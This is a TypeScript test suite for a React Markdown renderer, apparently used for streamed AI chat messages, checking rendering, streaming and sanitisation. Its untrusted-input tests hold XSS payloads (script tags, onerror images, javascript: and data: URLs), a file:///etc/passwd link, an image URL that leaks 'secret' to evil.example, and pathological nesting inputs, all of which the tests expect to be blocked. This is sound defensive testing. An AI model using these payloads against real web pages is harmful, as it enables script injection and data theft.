import "../../../app/testing/browser";
import { render, screen } from "@testing-library/react";
import { beforeAll, describe, expect, it } from "vitest";
import { lateReader } from "./late-reader";
import { Markdown } from "./Markdown";

beforeAll(async () => {
  await lateReader.load();
});

function html(text: string): HTMLElement {
  return render(<Markdown text={text} />).container;
}

describe("a finished message in pieces", () => {
  it.each([
    "# h\n\na **b** `c`\n\n- one\n- two\n\nafter\n\n1. x\n\n   more\n\n2. y\n\n---\n\nend",
    "```go\nfunc a() {\n\n}\n```\n\ntext\n\n| a | b |\n|---|---|\n| 1 | ~~2~~ |\n\n> quote\n\n> quote\n\n    code\n",
    "~~~~md\n```\n\n~~~~\n\n```klingon\na\n\n```\n\n```\n```\n\nend",
    "a\n\n<b>bold</b>\n\n<div>\n\nx\n\n</div>\n\nhttps://example.org\n\n- [x] done\n",
  ])("renders like the whole: %j", (text) => {
    const blocks = (box: HTMLElement) => [...(box.firstElementChild?.children ?? [])].map((each) => each.outerHTML);
    const whole = blocks(html(`${text}\n\n[unused]: https://example.org`));
    expect(blocks(html(text))).toEqual(whole);
    expect(whole.length).toBeGreaterThan(2);
  });

  it("finds the target of a link that is defined elsewhere, and closes HTML where it ends", () => {
    const link = html("see [here]\n\nmore\n\n[here]: https://example.org/there").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.org/there");
    expect(html("a\n\n<!-- x\n\n**y**\n\n-->\n").querySelector("strong")).toBeNull();
  });

  it("keeps the element that was rendered while it streamed", () => {
    const text = "read once\n\nand the end";
    const { container, rerender } = render(<Markdown text={`${text}\n\nmore`} grows />);
    expect(container.querySelectorAll("p")).toHaveLength(3);
    rerender(<Markdown text={text} />);
    expect([...container.querySelectorAll("p")].map((each) => each.textContent)).toEqual(["read once", "and the end"]);
  });
});

describe("untrusted Markdown", () => {
  it.each([
    ["a script", "<script>alert(1)</script>"],
    ["a picture that runs code", '<img src="x" onerror="alert(1)">'],
    ["a frame", '<iframe src="https://evil.example"></iframe>'],
    ["a form in a paragraph", 'hello <form action="https://evil.example"><input></form>'],
    ["a style sheet", "<style>body{display:none}</style>"],
  ])("makes no element of %s", (_, text) => {
    const box = html(text);
    expect(box.querySelector("script, img, iframe, form, input, style")).toBeNull();
    expect(box.innerHTML).not.toContain("<script");
  });

  it.each([
    ["javascript:alert(1)"],
    ["JaVaScRiPt:alert(1)"],
    ["data:text/html,<script>alert(1)</script>"],
    ["vbscript:x"],
    ["file:///etc/passwd"],
  ])("gives %s no link", (url) => {
    const box = html(`[press me](<${url}>)`);
    expect(box.querySelector("a[href]")).toBeNull();
    expect(box.textContent).toContain("press me");
  });

  it("opens links elsewhere, without a way back", () => {
    html("[docs](https://example.org/a)");
    const link = screen.getByRole("link", { name: "docs" });
    expect(link.getAttribute("href")).toBe("https://example.org/a");
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("fetches no picture by itself", () => {
    const box = html("![secret](https://evil.example/?q=secret) ![](data:image/png;base64,AAAA)");
    expect(box.querySelector("img, picture, video, source")).toBeNull();
    expect(screen.getByRole("link").textContent).toBe("[image: secret]");
  });

  it.each([
    ["quotes in quotes", "> ".repeat(5000), "x"],
    ["lists in lists", "- ".repeat(5000), "x"],
    ["links in links", "[a](".repeat(5000), ""],
    ["emphasis in emphasis", "*_".repeat(5000), "x"],
    ["emphasis with words", "*aaaa _bbbb ".repeat(3000), "x"],
    ["lists that are set in", Array.from({ length: 600 }, (_, i) => `${" ".repeat(i * 2)}- x`).join("\n"), ""],
    ["a table of millions of cells", `${"|a".repeat(2000)}|\n${"|-".repeat(2000)}|\n${"|\n".repeat(2000)}`, ""],
    ["runs of backticks", Array.from({ length: 600 }, (_, i) => "`".repeat(i)).join(" "), ""],
  ])("shows %s without end as they were written, at once", (_, start, end) => {
    const began = performance.now();
    const box = html(start + end);
    expect(box.textContent).toBe(start + end);
    expect(box.querySelector("blockquote, ul, em, table, code")).toBeNull();
    expect(performance.now() - began).toBeLessThan(2000);
  });

  it("renders long Markdown that people and models write", () => {
    const table = `|a|b|c|\n|-|-|-|\n${"| **x** | `y` | [z](https://example.org) |\n".repeat(150)}`;
    const code = `\`\`\`c\n${"*p = a[i][j] * b[k]; /* _x_ */\n".repeat(2000)}\`\`\`\n`;
    const list = "- **a** *b* `c` [d](https://example.org)\n  - e\n\n".repeat(100);
    const box = html(`${table}\n\n${code}\n${list}`);
    expect(box.querySelectorAll("tr").length).toBe(151);
    expect(box.querySelectorAll("figcaption").length).toBe(1);
    expect(box.querySelectorAll("li").length).toBe(200);
  });

  it("renders tables and aligns their columns", () => {
    const cells = html("| a | b |\n|---|--:|\n| 1 | 2 |").querySelectorAll("td");
    expect([...cells].map((cell) => [cell.textContent, cell.style.textAlign])).toEqual([
      ["1", ""],
      ["2", "right"],
    ]);
  });

  it("shows code with its language and a copy button", () => {
    const box = html("```go\nfunc main() {}\n```");
    expect(box.querySelector("figcaption")?.textContent).toContain("go");
    expect(box.querySelector("pre")?.textContent).toBe("func main() {}");
    expect(screen.getByRole("button", { name: "Copy the code" })).toBeTruthy();
  });
});

describe("streaming Markdown", () => {
  const text = "# Title\n\nOne.\n\n- a\n\n- b\n\n```js\nconst a = 1;\n\nconst b = 2;\n```\n\nEnd **bold**.";

  it("ends as the finished text does", () => {
    const view = render(<Markdown text="" grows />);
    for (let n = 1; n <= text.length; n++) {
      view.rerender(<Markdown text={text.slice(0, n)} grows />);
    }
    // Line breaks between two blocks are not visible.
    const seen = (box: HTMLElement) => box.querySelector(".md")?.innerHTML.replaceAll(">\n<", "><");
    expect(seen(view.container)).toBe(seen(html(text)));
  });

  it("does not render finished blocks again", () => {
    const view = render(<Markdown text={"First.\n\nSecond.\n\nThi"} grows />);
    const first = view.container.querySelector("p");
    view.rerender(<Markdown text={"First.\n\nSecond.\n\nThird, and more."} grows />);
    expect(view.container.querySelector("p")).toBe(first);
  });
});
